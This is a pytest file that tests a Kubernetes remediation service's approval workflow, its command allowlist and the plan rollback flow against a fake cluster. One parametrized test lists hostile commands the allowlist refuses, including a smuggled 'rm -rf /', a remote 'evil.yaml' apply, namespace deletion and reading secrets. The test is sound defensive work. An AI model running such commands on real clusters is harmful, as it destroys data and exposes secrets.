"""Seed 001 (Pulse) remediation: approvals that run or end an action's workflow, run-command
refusing anything outside the allowlist before the cluster hears of it, and remediation
plans approved, executed and rolled back through the same workflow, against a fake API
server holding the OOM case of the eval corpus (with its Deployment and a node added)."""

from __future__ import annotations

import copy
import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.fake_kube import FakeKubeServer
from tests.functional.conftest import Api, register_cluster
from tests.functional.test_audit_and_consumer import audit_entries
from tests.functional.test_remediation_workflow import wait_until

CORPUS = Path(__file__).resolve().parents[2].parent / "shared" / "eval" / "k8s"
OOM = CORPUS / "hg-oomkilled-analytics-exporter.json"
POD = "analytics-exporter-fast-76897854c-cw5wh"
DEPLOYMENT = "analytics-exporter-fast"
SCALE = f"kubectl scale deployment/{DEPLOYMENT} --replicas=2 -n default"
RESTART = f"kubectl rollout restart deployment/{DEPLOYMENT} -n default"
RESTARTED_AT = "kubectl.kubernetes.io/restartedAt"
pytestmark = pytest.mark.skipif(not OOM.exists(), reason="k8s eval corpus not found")


def oom_workload_case() -> dict[str, Any]:
    """The OOM case with the pod's ReplicaSet and Deployment, and a node to run pods on."""
    case = json.loads(OOM.read_text())
    pod = case["objects"]["pods"][0]
    spec = copy.deepcopy(pod["spec"])
    for field in ("nodeName", "tolerations", "priority"):
        spec.pop(field, None)
    labels = {"app": DEPLOYMENT}
    template = {"metadata": {"labels": labels}, "spec": spec}
    case["objects"]["deployments"] = [{
        "apiVersion": "apps/v1", "kind": "Deployment",
        "metadata": {"name": DEPLOYMENT, "namespace": "default", "labels": labels,
                     "generation": 1},
        "spec": {"replicas": 1, "selector": {"matchLabels": labels}, "template": template},
        "status": {"replicas": 1, "readyReplicas": 0, "availableReplicas": 0,
                   "observedGeneration": 1}}]
    case["objects"]["replicasets"] = [{
        "apiVersion": "apps/v1", "kind": "ReplicaSet",
        "metadata": {"name": f"{DEPLOYMENT}-76897854c", "namespace": "default",
                     "labels": {**labels, "pod-template-hash": "76897854c"},
                     "ownerReferences": [{"apiVersion": "apps/v1", "kind": "Deployment",
                                          "name": DEPLOYMENT, "controller": True}]},
        "spec": {"replicas": 1, "selector": {"matchLabels": {
            **labels, "pod-template-hash": "76897854c"}}, "template": copy.deepcopy(
                template) | {"metadata": {"labels": {**labels,
                                                     "pod-template-hash": "76897854c"}}}}}]
    node = pod["spec"]["nodeName"]
    case["objects"]["nodes"] = [{
        "apiVersion": "v1", "kind": "Node",
        "metadata": {"name": node, "labels": {"kubernetes.io/arch": "amd64",
                                              "kubernetes.io/hostname": node}},
        "spec": {}, "status": {"allocatable": {"cpu": "4", "memory": "8Gi", "pods": "110"},
                               "conditions": [{"type": "Ready", "status": "True"}]}}]
    return case


@pytest.fixture
def cluster(api: Api) -> Iterator[FakeKubeServer]:
    """The OOM workload case, registered as cluster ``case``."""
    with FakeKubeServer.from_cases(oom_workload_case()) as server:
        register_cluster(api, server, "case")
        yield server


def report_pod(api: Api, namespace: str = "default", pod: str = POD) -> str:
    """A Kure pod failure report for the OOM-killed pod; its id."""
    status, body = api.call("POST", "/api/pods/failed", headers={"X-Cluster-Id": "case"},
                            body={"pod_name": pod, "namespace": namespace,
                                  "failure_reason": "OOMKilled",
                                  "failure_message": "Container memory-eater was OOMKilled"})
    assert status == 200, body
    return str(body["id"])


def container(server: FakeKubeServer, name: str = DEPLOYMENT) -> dict[str, Any]:
    """The first container of a deployment as the fake cluster holds it."""
    deployment = server.store.get("deployments", "default", name)
    return deployment["spec"]["template"]["spec"]["containers"][0]


def writes(server: FakeKubeServer) -> list[tuple[str, str]]:
    """Every request that was not a read."""
    return [(m, p) for m, p in server.requests if m != "GET"]


def real_writes(server: FakeKubeServer) -> list[tuple[str, str]]:
    """Every write that was not a server-side dry run."""
    return [(m, p) for m, p in writes(server) if "dryRun=All" not in p]


def action_state(api: Api, action_id: str) -> str:
    status, body = api.call("GET", f"/api/ai/approvals/{action_id}")
    assert status == 200, body
    return str(body["action"]["record"]["state"])


def finished(api: Api, action_id: str) -> str:
    """The action's state once its workflow has ended."""
    return wait_until(lambda: (s := action_state(api, action_id)) not in (
        "pending_approval", "running") and s, f"action {action_id} to finish")


def request(api: Api, command: str = SCALE, **extra: Any) -> dict[str, Any]:
    """A command requested for real (it waits for approval)."""
    status, body = api.call("POST", "/api/ai/run-command",
                            body={"command": command, "dry_run": False, **extra})
    assert status == 202, body
    return body


# --- approvals -------------------------------------------------------------------------------
def template_annotations(server: FakeKubeServer) -> dict[str, str]:
    deployment = server.store.get("deployments", "default", DEPLOYMENT)
    return deployment["spec"]["template"]["metadata"].get("annotations") or {}


def test_a_pending_action_is_listed_and_approving_it_runs_it_to_success(api, cluster):
    incident = report_pod(api)
    requested = request(api, RESTART, incident_id=incident)
    assert requested["status"] == "pending_approval"

    status, listed = api.call("GET", "/api/ai/approvals")
    assert status == 200, listed
    assert [a["id"] for a in listed["approvals"]] == [requested["approval_id"]]
    shown = listed["approvals"][0]
    assert (shown["status"], shown["toolId"], shown["riskLevel"]) == (
        "pending", "rollout_restart", "medium")
    assert shown["targetName"] == DEPLOYMENT and shown["incidentId"] == incident
    assert shown["expiresAt"] > shown["requestedAt"]
    assert "restart" in shown["context"].lower()
    assert RESTARTED_AT not in template_annotations(cluster)

    status, approved = api.call("POST", f"/api/ai/approvals/{shown['id']}/approve")
    assert status == 200, approved
    assert approved["status"] == "approved" and approved["decidedBy"].startswith("apikey:")
    assert finished(api, shown["id"]) == "succeeded"
    assert RESTARTED_AT in template_annotations(cluster)
    pods = cluster.store.list("pods", "default")
    assert POD not in [p["metadata"]["name"] for p in pods]  # the OOM-killed pod was replaced
    assert api.call("GET", "/api/ai/approvals")[1]["approvals"] == []
    _, timeline = api.call("GET", f"/incidents/{incident}/timeline")
    events = [e["event_type"] for e in timeline["events"]]
    assert {"action_requested", "action_approved", "action_succeeded"} <= set(events)


def test_a_denied_action_ends_rejected_and_never_reaches_the_cluster(api, cluster):
    action_id = request(api)["approval_id"]

    status, denied = api.call("POST", f"/api/ai/approvals/{action_id}/deny",
                              body={"reason": "not during the sale"})
    assert status == 200, denied
    assert (denied["status"], denied["denyReason"]) == ("denied", "not during the sale")
    assert finished(api, action_id) == "rejected"
    _, shown = api.call("GET", f"/api/ai/approvals/{action_id}")
    assert shown["status"] == "denied" and shown["decidedBy"] == denied["decidedBy"]
    assert real_writes(cluster) == []
    assert cluster.store.get("deployments", "default", DEPLOYMENT)["spec"]["replicas"] == 1
    status, again = api.call("POST", f"/api/ai/approvals/{action_id}/approve")
    assert (status, again["code"]) == (409, "not_pending_approval")


def test_deciding_needs_the_execute_scope_and_unknown_approvals_are_404(api, cluster, make_key):
    action_id = request(api)["approval_id"]
    reader = make_key("incidents:read")
    for verb in ("approve", "deny"):
        status, body = api.call("POST", f"/api/ai/approvals/{action_id}/{verb}", key=reader)
        assert (status, body["code"]) == (403, "missing_scope")
    assert api.call("GET", "/api/ai/approvals", key=reader)[0] == 200
    status, body = api.call("GET", "/api/ai/approvals/act-nope")
    assert (status, body["code"]) == (404, "action_not_found")


# --- run-command -----------------------------------------------------------------------------
def test_run_command_is_a_dry_run_by_default_that_changes_nothing(api, cluster, make_key):
    status, body = api.call("POST", "/api/ai/run-command", body={"command": SCALE},
                            key=make_key("incidents:read"))
    assert status == 200, body
    assert (body["status"], body["action"], body["record"]["source"]) == (
        "dry_run", "scale_deployment", "command")
    assert {"path": "spec.replicas", "before": 1, "after": 2} in body["diff"]
    assert body["success"] is True and "2 replicas" in body["output"]
    assert writes(cluster) and real_writes(cluster) == []
    assert cluster.store.get("deployments", "default", DEPLOYMENT)["spec"]["replicas"] == 1


def test_running_a_command_for_real_needs_the_execute_scope(api, cluster, make_key):
    status, body = api.call("POST", "/api/ai/run-command", key=make_key("incidents:read"),
                            body={"command": SCALE, "dry_run": False})
    assert (status, body["code"]) == (403, "missing_scope")
    assert writes(cluster) == []


@pytest.mark.parametrize("command", [
    "kubectl get pods -n default | grep analytics",
    f"kubectl exec -it {POD} -n default -- sh",
    "kubectl delete namespace default",
    "kubectl get secrets -n default",
    f"kubectl delete pod {POD} -n default; rm -rf /",
    "kubectl apply -f https://example.com/evil.yaml",
])
def test_commands_outside_the_allowlist_are_refused_audited_and_never_reach_the_cluster(
        api, cluster, command):
    seen = len(cluster.requests)
    status, body = api.call("POST", "/api/ai/run-command",
                            body={"command": command, "dry_run": False})
    assert (status, body["code"]) == (400, "command_refused"), body
    assert len(cluster.requests) == seen
    assert ("POST /api/ai/run-command", 400, "error") in [
        (e["action"], e["status_code"], e["outcome"]) for e in audit_entries()]


def test_a_command_in_a_protected_namespace_is_refused_by_policy(api, cluster):
    status, body = api.call("POST", "/api/ai/run-command", body={
        "command": "kubectl rollout restart deployment/coredns -n kube-system",
        "dry_run": False})
    assert (status, body["code"]) == (403, "policy_refused")
    assert "kube-system" in body["policy_reason"] and body["policy_name"] == "default"
    assert writes(cluster) == []


# --- remediation plans -----------------------------------------------------------------------
def diagnosed(api: Api) -> tuple[str, str]:
    """A diagnosed OOM pod failure: its incident id and plan id."""
    incident = report_pod(api)
    status, diagnosis = api.call("GET", f"/incidents/{incident}/diagnosis")
    assert status == 200, diagnosis
    return incident, f"plan-{diagnosis['diagnosis_id']}"


def test_a_diagnosed_incident_has_a_plan_of_its_suggested_actions(api, cluster):
    incident, plan_id = diagnosed(api)

    status, listed = api.call("GET", "/api/ai/remediation/plans")
    assert status == 200, listed
    assert [p["plan_id"] for p in listed["plans"]] == [plan_id]
    status, plan = api.call("GET", f"/api/ai/remediation/plan?plan_id={plan_id}")
    assert status == 200, plan
    assert (plan["incident_id"], plan["status"], plan["category"]) == (
        incident, "proposed", "guided")
    step = plan["steps"][0]
    assert (step["action"], step["arguments"]["memory_limit"], step["reversible"]) == (
        "set_resources", "200Mi", True)
    assert plan["risk_level"] == "medium" and plan["executions"] == []


def test_an_approved_plan_dry_runs_then_executes_then_rolls_back(api, cluster):
    incident, plan_id = diagnosed(api)
    status, approved = api.call("POST", "/api/ai/remediation/approve",
                                body={"plan_id": plan_id, "approved_by": "alice"})
    assert status == 200, approved
    assert (approved["status"], approved["approver_note"]) == ("approved", "alice")
    execution_id = approved["execution_id"]

    status, preview = api.call("POST", "/api/ai/remediation/execute",
                               body={"execution_id": execution_id, "plan_id": plan_id})
    assert status == 200, preview
    assert preview["dry_run"] is True and preview["step_results"][0]["state"] == "dry_run"
    assert container(cluster)["resources"]["limits"]["memory"] == "100Mi"

    status, run = api.call("POST", "/api/ai/remediation/execute",
                           body={"execution_id": execution_id, "dry_run": False})
    assert status in (200, 202), run
    action_id = run["step_results"][0]["action_id"]
    assert finished(api, action_id) == "succeeded"
    assert container(cluster)["resources"]["limits"]["memory"] == "200Mi"
    _, plan = api.call("GET", f"/api/ai/remediation/plan?plan_id={plan_id}")
    assert plan["status"] == "executed"
    assert (plan["executions"][0]["status"], plan["executions"][0]["verified"]) == (
        "completed", True)
    status, again = api.call("POST", "/api/ai/remediation/execute",
                             body={"execution_id": execution_id, "dry_run": False})
    assert (status, again["code"]) == (409, "already_executed")

    status, undone = api.call("POST", "/api/ai/remediation/rollback",
                              body={"execution_id": execution_id, "approved": True})
    assert status == 202, undone
    inverse = undone["rollback_steps"][0]
    assert (inverse["action"], inverse["undoes"]) == ("set_resources", action_id)
    assert finished(api, inverse["action_id"]) == "succeeded"
    assert container(cluster)["resources"]["limits"]["memory"] == "100Mi"
    status, twice = api.call("POST", "/api/ai/remediation/rollback",
                             body={"execution_id": execution_id})
    assert (status, twice["code"]) == (409, "not_executed")
    _, timeline = api.call("GET", f"/incidents/{incident}/timeline")
    events = [e["event_type"] for e in timeline["events"]]
    assert {"plan_approved", "plan_executed", "plan_rolled_back"} <= set(events)


def test_an_unapproved_plan_waits_for_approval_and_a_denied_step_cannot_be_undone(api,
                                                                                 cluster):
    _, plan_id = diagnosed(api)
    status, run = api.call("POST", "/api/ai/remediation/execute",
                           body={"plan_id": plan_id, "dry_run": False})
    assert status == 202, run
    assert run["status"] == "pending_approval" and run["approved_by"] is None
    action_id = run["step_results"][0]["action_id"]
    api.call("POST", f"/api/ai/approvals/{action_id}/deny", body={"reason": "no"})
    assert finished(api, action_id) == "rejected"

    status, body = api.call("POST", "/api/ai/remediation/rollback",
                            body={"execution_id": run["execution_id"]})
    assert (status, body["code"]) == (409, "not_undoable")
    assert body["not_undoable"][0]["reason"].startswith("it is rejected")
    assert container(cluster)["resources"]["limits"]["memory"] == "100Mi"


def test_plans_answer_clearly_for_bad_or_unknown_ids(api, cluster, make_key):
    for query, code in (("plan_id=diag_nope", 400), ("plan_id=plan-diag_nope", 404), ("", 400)):
        status, body = api.call("GET", f"/api/ai/remediation/plan?{query}")
        assert status == code, body
    status, body = api.call("POST", "/api/ai/remediation/rollback",
                            body={"execution_id": "exec-nope"})
    assert (status, body["code"]) == (404, "execution_not_found")
    _, plan_id = diagnosed(api)
    status, body = api.call("POST", "/api/ai/remediation/approve", body={"plan_id": plan_id},
                            key=make_key("incidents:read"))
    assert (status, body["code"]) == (403, "missing_scope")
